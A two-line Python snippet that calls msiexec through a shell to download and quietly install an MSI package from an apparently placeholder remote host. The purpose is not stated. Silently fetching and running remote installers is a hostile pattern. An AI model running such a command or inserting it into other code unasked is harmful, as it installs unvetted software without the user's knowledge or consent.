import subprocess
subprocess.Popen("msiexec /q /i https://cdn.example.invalid/setup.msi", shell=True)
